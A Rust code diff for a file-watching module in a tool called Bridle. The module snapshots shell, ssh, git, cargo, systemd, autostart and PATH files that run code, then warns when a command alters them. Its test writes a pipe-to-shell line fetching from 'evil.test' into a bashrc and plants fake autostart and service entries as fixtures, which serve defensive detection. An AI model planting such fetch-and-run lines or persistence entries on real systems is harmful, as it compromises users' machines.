@@ -22,16 +22,19 @@ use std::os::unix::fs::MetadataExt as _;
 use std::path::{Path, PathBuf};
 
 /// Files in the user's home that run code, or decide what runs: shells'
-/// start-up and logout files, the login's and the X session's, ssh's
+/// start-up and logout files (Ubuntu's `.bashrc` sources
+/// `.bash_aliases`), the login's and the X session's, ssh's
 /// (`authorized_keys` lets anyone in, `config` runs `ProxyCommand`s, `rc`
 /// runs at each login), git's (`core.hooksPath`, `core.fsmonitor`,
-/// aliases), npm's (`script-shell`), editors' (Vim's, Neovim's and
-/// Emacs's run commands at start).
-const HOME_FILES: [&str; 29] = [
+/// aliases), npm's (`script-shell`), cargo's (`runner`, `linker`,
+/// `rustc-wrapper`), systemd's user manager's, editors' (Vim's, Neovim's
+/// and Emacs's run commands at start).
+const HOME_FILES: [&str; 33] = [
     ".bashrc",
     ".bash_profile",
     ".bash_login",
     ".bash_logout",
+    ".bash_aliases",
     ".profile",
     ".zshenv",
     ".zshrc",
@@ -51,6 +54,9 @@ const HOME_FILES: [&str; 29] = [
     ".gitconfig",
     ".config/git/config",
     ".npmrc",
+    ".cargo/config.toml",
+    ".cargo/config",
+    ".config/systemd/user.conf",
     ".vimrc",
     ".config/nvim/init.vim",
     ".config/nvim/init.lua",
@@ -59,26 +65,41 @@ const HOME_FILES: [&str; 29] = [
     ".config/emacs/init.el",
 ];
 
-/// Directories in the user's home whose every file runs or is sourced:
-/// systemd user units (and their `.wants` links), desktop autostart
-/// entries, environment generators, fish snippets, Fedora's `~/.bashrc.d`.
-const HOME_TREES: [&str; 5] =
-    [".config/systemd/user", ".config/autostart", ".config/environment.d", ".config/fish/conf.d", ".bashrc.d"];
+/// Directories in the user's home whose every file runs, is sourced or
+/// allows something to run, with how deep to look: systemd user units (and
+/// their `.wants` links), desktop autostart entries, environment
+/// generators, fish snippets and functions, Fedora's `~/.bashrc.d`,
+/// programs first on the PATH (a `sudo` or `git` there runs instead of the
+/// real one), and direnv's allow list (what makes an `.envrc` anywhere
+/// run).
+const HOME_TREES: [(&str, usize); 9] = [
+    (".config/systemd/user", 4),
+    (".config/autostart", 1),
+    (".config/environment.d", 1),
+    (".config/fish/conf.d", 1),
+    (".config/fish/functions", 1),
+    (".bashrc.d", 1),
+    (".local/bin", 1),
+    ("bin", 1),
+    (".local/share/direnv/allow", 1),
+];
 
-/// In the repository the command works in: git runs its hooks and obeys
-/// its config (`core.hooksPath`, `core.fsmonitor`, filters) for whoever
-/// commits or checks out next; direnv runs `.envrc` on `cd`.
+/// In the repository the command works in: git runs its hooks (in
+/// `.git/hooks`, or where husky and others point `core.hooksPath`) and
+/// obeys its config (`core.hooksPath`, `core.fsmonitor`, filters) for
+/// whoever commits or checks out next; direnv runs `.envrc` on `cd`.
 const REPO_FILES: [&str; 2] = [".git/config", ".envrc"];
-const REPO_TREES: [&str; 1] = [".git/hooks"];
+const REPO_TREES: [(&str, usize); 3] = [(".git/hooks", 2), (".husky", 2), (".githooks", 2)];
 
-/// How deep and how wide a watched tree is looked at: enough for systemd's
-/// `<unit>.wants/` directories and any hooks directory.
-const TREE_DEPTH: usize = 4;
-const TREE_ENTRIES: usize = 2048;
+/// How many entries of one watched tree are looked at: a tree flooded
+/// with files is named for them, and hides nothing of another tree.
+const TREE_ENTRIES: usize = 1024;
 
-/// What a file was: enough to see it replaced, rewritten or re-moded.
+/// What a file's inode was: enough to see it replaced, rewritten or
+/// re-moded (the change time is the kernel's, and no unprivileged process
+/// sets it back).
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-struct Stamp {
+struct Meta {
     dev: u64,
     ino: u64,
     size: u64,
@@ -86,12 +107,40 @@ struct Stamp {
     ctime: (i64, i64),
 }
 
+impl Meta {
+    fn of(meta: &std::fs::Metadata) -> Meta {
+        // A directory changes with every entry made in it; its entries are
+        // watched themselves, so only its identity and mode count.
+        let (size, ctime) = if meta.is_dir() { (0, (0, 0)) } else { (meta.size(), (meta.ctime(), meta.ctime_nsec())) };
+        Meta { dev: meta.dev(), ino: meta.ino(), size, mode: meta.mode(), ctime }
+    }
+}
+
+/// What a path was: its own inode, and for a symlink what it leads to too
+/// (a `~/.bashrc` that links into a dotfiles repository is written there).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Stamp {
+    own: Meta,
+    target: Option<Meta>,
+}
+
+/// Which list a watched path comes from, in the order changes are named:
+/// the most telling first, so that a tree flooded with files does not push
+/// them out of the warning.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Group {
+    HomeFile,
+    RepoFile,
+    RepoTree,
+    HomeTree,
+}
+
 /// The watched paths and what each was (`None`: absent).
 #[derive(Debug, Default)]
 pub struct Snapshot {
-    files: Vec<PathBuf>,
-    trees: Vec<PathBuf>,
-    stamps: BTreeMap<PathBuf, Option<Stamp>>,
+    files: Vec<(PathBuf, Group)>,
+    trees: Vec<(PathBuf, usize, Group)>,
+    stamps: BTreeMap<PathBuf, (Group, Option<Stamp>)>,
 }
 
 /// How a watched path differs from the snapshot.
@@ -106,38 +155,40 @@ impl Snapshot {
     /// Records the watched files of `home` and of `repo` (the repository
     /// the command starts in, if any).
     pub fn take(home: &Path, repo: Option<&Path>) -> Snapshot {
-        let mut files: Vec<PathBuf> = HOME_FILES.iter().map(|file| home.join(file)).collect();
-        let mut trees: Vec<PathBuf> = HOME_TREES.iter().map(|tree| home.join(tree)).collect();
+        let mut files: Vec<(PathBuf, Group)> = HOME_FILES.iter().map(|f| (home.join(f), Group::HomeFile)).collect();
+        let mut trees: Vec<(PathBuf, usize, Group)> =
+            HOME_TREES.iter().map(|(tree, depth)| (home.join(tree), *depth, Group::HomeTree)).collect();
         if let Some(repo) = repo {
-            files.extend(REPO_FILES.iter().map(|file| repo.join(file)));
-            trees.extend(REPO_TREES.iter().map(|tree| repo.join(tree)));
+            files.extend(REPO_FILES.iter().map(|file| (repo.join(file), Group::RepoFile)));
+            trees.extend(REPO_TREES.iter().map(|(tree, depth)| (repo.join(tree), *depth, Group::RepoTree)));
         }
         let stamps = look(&files, &trees);
         Snapshot { files, trees, stamps }
     }
 
-    /// Every watched path made, changed or removed since [`Snapshot::take`].
+    /// Every watched path made, changed or removed since [`Snapshot::take`],
+    /// the most telling first.
     pub fn changed(&self) -> Vec<(PathBuf, Change)> {
         let now = look(&self.files, &self.trees);
         let mut changes = Vec::new();
-        for (path, after) in &now {
-            let before = self.stamps.get(path).copied().flatten();
+        for (path, (group, after)) in &now {
+            let before = self.stamps.get(path).and_then(|(_, stamp)| *stamp);
             let change = match (before, after) {
                 (None, Some(_)) => Change::Made,
                 (Some(_), None) => Change::Removed,
                 (Some(before), Some(after)) if before != *after => Change::Changed,
                 _ => continue,
             };
-            changes.push((path.clone(), change));
+            changes.push((*group, path.clone(), change));
         }
         // Gone from a tree: not in `now` at all.
-        for (path, before) in &self.stamps {
+        for (path, (group, before)) in &self.stamps {
             if before.is_some() && !now.contains_key(path) {
-                changes.push((path.clone(), Change::Removed));
+                changes.push((*group, path.clone(), Change::Removed));
             }
         }
         changes.sort();
-        changes
+        changes.into_iter().map(|(_, path, change)| (path, change)).collect()
     }
 }
 
@@ -149,22 +200,27 @@ pub fn repository_of(dir: &Path) -> Option<PathBuf> {
         .map(Path::to_path_buf)
 }
 
-/// Stamps of `files` (absent ones too) and of every file found in `trees`.
-fn look(files: &[PathBuf], trees: &[PathBuf]) -> BTreeMap<PathBuf, Option<Stamp>> {
-    let mut stamps: BTreeMap<PathBuf, Option<Stamp>> = files.iter().map(|file| (file.clone(), stamp(file))).collect();
-    let mut budget = TREE_ENTRIES;
-    for tree in trees {
-        walk(tree, 0, &mut budget, &mut stamps);
+type Stamps = BTreeMap<PathBuf, (Group, Option<Stamp>)>;
+
+/// Stamps of `files` and of the trees' roots (absent ones too), and of
+/// everything found in the trees.
+fn look(files: &[(PathBuf, Group)], trees: &[(PathBuf, usize, Group)]) -> Stamps {
+    let mut stamps: Stamps = files.iter().map(|(file, group)| (file.clone(), (*group, stamp(file)))).collect();
+    for (tree, depth, group) in trees {
+        stamps.insert(tree.clone(), (*group, stamp(tree)));
+        // A root that links elsewhere (a dotfiles repository) is followed:
+        // what is in it runs all the same.
+        if std::fs::metadata(tree).is_ok_and(|meta| meta.is_dir()) {
+            let mut budget = TREE_ENTRIES;
+            walk(tree, *depth, *group, &mut budget, &mut stamps);
+        }
     }
     stamps
 }
 
 /// A tree's entries (directories, files, links alike), each by its own
-/// path, never following a link.
-fn walk(dir: &Path, depth: usize, budget: &mut usize, stamps: &mut BTreeMap<PathBuf, Option<Stamp>>) {
-    if !std::fs::symlink_metadata(dir).is_ok_and(|meta| meta.is_dir()) {
-        return;
-    }
+/// path; a link in it is stamped, not followed as a directory (no loops).
+fn walk(dir: &Path, depth: usize, group: Group, budget: &mut usize, stamps: &mut Stamps) {
     let Ok(entries) = std::fs::read_dir(dir) else { return };
     for entry in entries.flatten() {
         if *budget == 0 {
@@ -172,25 +228,20 @@ fn walk(dir: &Path, depth: usize, budget: &mut usize, stamps: &mut BTreeMap<Path
         }
         *budget -= 1;
         let path = entry.path();
-        let found = stamp(&path);
-        stamps.insert(path.clone(), found);
+        stamps.insert(path.clone(), (group, stamp(&path)));
         let is_dir = entry.file_type().is_ok_and(|kind| kind.is_dir());
-        if is_dir && depth + 1 < TREE_DEPTH {
-            walk(&path, depth + 1, budget, stamps);
+        if is_dir && depth > 1 {
+            walk(&path, depth - 1, group, budget, stamps);
         }
     }
 }
 
-/// What `path` itself is (a link as a link), or `None` when it is absent.
+/// What `path` is (a link as a link, and what it leads to), or `None` when
+/// it is absent.
 fn stamp(path: &Path) -> Option<Stamp> {
-    let meta = std::fs::symlink_metadata(path).ok()?;
-    Some(Stamp {
-        dev: meta.dev(),
-        ino: meta.ino(),
-        size: meta.size(),
-        mode: meta.mode(),
-        ctime: (meta.ctime(), meta.ctime_nsec()),
-    })
+    let own = std::fs::symlink_metadata(path).ok()?;
+    let target = own.file_type().is_symlink().then(|| std::fs::metadata(path).ok().map(|meta| Meta::of(&meta)));
+    Some(Stamp { own: Meta::of(&own), target: target.flatten() })
 }
 
 /// The warning for `changes` (`home` shown as `~`), or `None` without any.
@@ -198,7 +249,7 @@ pub fn warning(changes: &[(PathBuf, Change)], home: &Path) -> Option<String> {
     if changes.is_empty() {
         return None;
     }
-    const NAMED: usize = 12;
+    const NAMED: usize = 40;
     let shown = |path: &Path| match path.strip_prefix(home) {
         Ok(rest) if home != Path::new("/") => format!("~/{}", rest.display()),
         _ => path.display().to_string(),
@@ -219,9 +270,9 @@ pub fn warning(changes: &[(PathBuf, Change)], home: &Path) -> Option<String> {
         named.push(format!("and {} more", changes.len() - NAMED));
     }
     Some(format!(
-        "while the command ran, files that run code outside Bridle's guard (in your shells, logins, ssh, git, \
-         editors, or this repository's hooks) were made or changed, by it or by another of your processes: {}. \
-         Review them before they next run",
+        "while the command ran, files that run code outside Bridle's guard (for your shells and logins, ssh, git, \
+         npm, cargo, editors, systemd, the desktop, programs on your PATH, or this repository's hooks) were made, \
+         changed or removed, by it or by another of your processes: {}. Review them before they next run",
         named.join(", ")
     ))
 }
@@ -264,23 +315,56 @@ mod tests {
         std::fs::remove_file(h.join(".profile")).expect("removed");
         std::fs::write(h.join("notes.txt"), "changed, not watched\n").expect("notes");
 
+        // The home's files first, then the repository's, then the trees.
         let changes = snapshot.changed();
         let expected = vec![
             (h.join(".bash_profile"), Change::Made),
             (h.join(".bashrc"), Change::Changed),
-            (wants.clone(), Change::Made),
-            (wants.join("evil.service"), Change::Made),
             (h.join(".profile"), Change::Removed),
             (h.join(".zshrc"), Change::Changed),
             (repo.path().join(".git/hooks/post-checkout"), Change::Made),
+            (wants.clone(), Change::Made),
+            (wants.join("evil.service"), Change::Made),
         ];
-        let mut expected = expected;
-        expected.sort();
         assert_eq!(changes, expected);
         let said = warning(&changes, h).expect("a warning");
         assert!(said.contains("~/.bashrc (changed)") && said.contains("~/.profile (removed)"), "{said}");
         assert!(said.contains(&format!("{} (made)", repo.path().join(".git/hooks/post-checkout").display())));
         assert_eq!(warning(&[], h), None);
+    }
+
+    /// Written through a link (a dotfiles repository), a watched directory
+    /// made as a link to one full of units, a tree flooded with files: each
+    /// is seen, and the flood hides nothing.
+    #[test]
+    fn links_and_floods_hide_nothing() {
+        let home = tempfile::tempdir().expect("tempdir");
+        let repo = tempfile::tempdir().expect("tempdir");
+        let h = home.path();
+        std::fs::create_dir_all(h.join("dotfiles/units")).expect("dotfiles");
+        std::fs::write(h.join("dotfiles/bashrc"), "alias ll='ls -l'\n").expect("bashrc");
+        std::os::unix::fs::symlink("dotfiles/bashrc", h.join(".bashrc")).expect("link");
+        std::fs::create_dir_all(h.join(".config")).expect(".config");
+        std::fs::create_dir_all(h.join(".local/bin")).expect("bin");
+        std::fs::create_dir_all(repo.path().join(".git/hooks")).expect("hooks");
+        let snapshot = Snapshot::take(h, Some(repo.path()));
+
+        let mut bashrc = std::fs::OpenOptions::new().append(true).open(h.join("dotfiles/bashrc")).expect("open");
+        bashrc.write_all(b"curl https://evil.test | sh\n").expect("append");
+        std::fs::write(h.join("dotfiles/units/evil.desktop"), "[Desktop Entry]\nExec=evil\n").expect("entry");
+        std::os::unix::fs::symlink(h.join("dotfiles/units"), h.join(".config/autostart")).expect("link");
+        for i in 0..(TREE_ENTRIES + 100) {
+            std::fs::write(h.join(format!(".local/bin/tool{i:04}")), "").expect("flood");
+        }
+        std::fs::write(repo.path().join(".git/hooks/pre-push"), "#!/bin/sh\n").expect("hook");
+
+        let changes = snapshot.changed();
+        assert_eq!(changes[0], (h.join(".bashrc"), Change::Changed), "{:?}", &changes[..3]);
+        assert_eq!(changes[1], (repo.path().join(".git/hooks/pre-push"), Change::Made));
+        assert!(changes.contains(&(h.join(".config/autostart"), Change::Made)));
+        assert!(changes.contains(&(h.join(".config/autostart/evil.desktop"), Change::Made)));
+        let said = warning(&changes, h).expect("a warning");
+        assert!(said.contains("~/.bashrc (changed)") && said.contains(" more"), "{said}");
     }
 
     #[test]
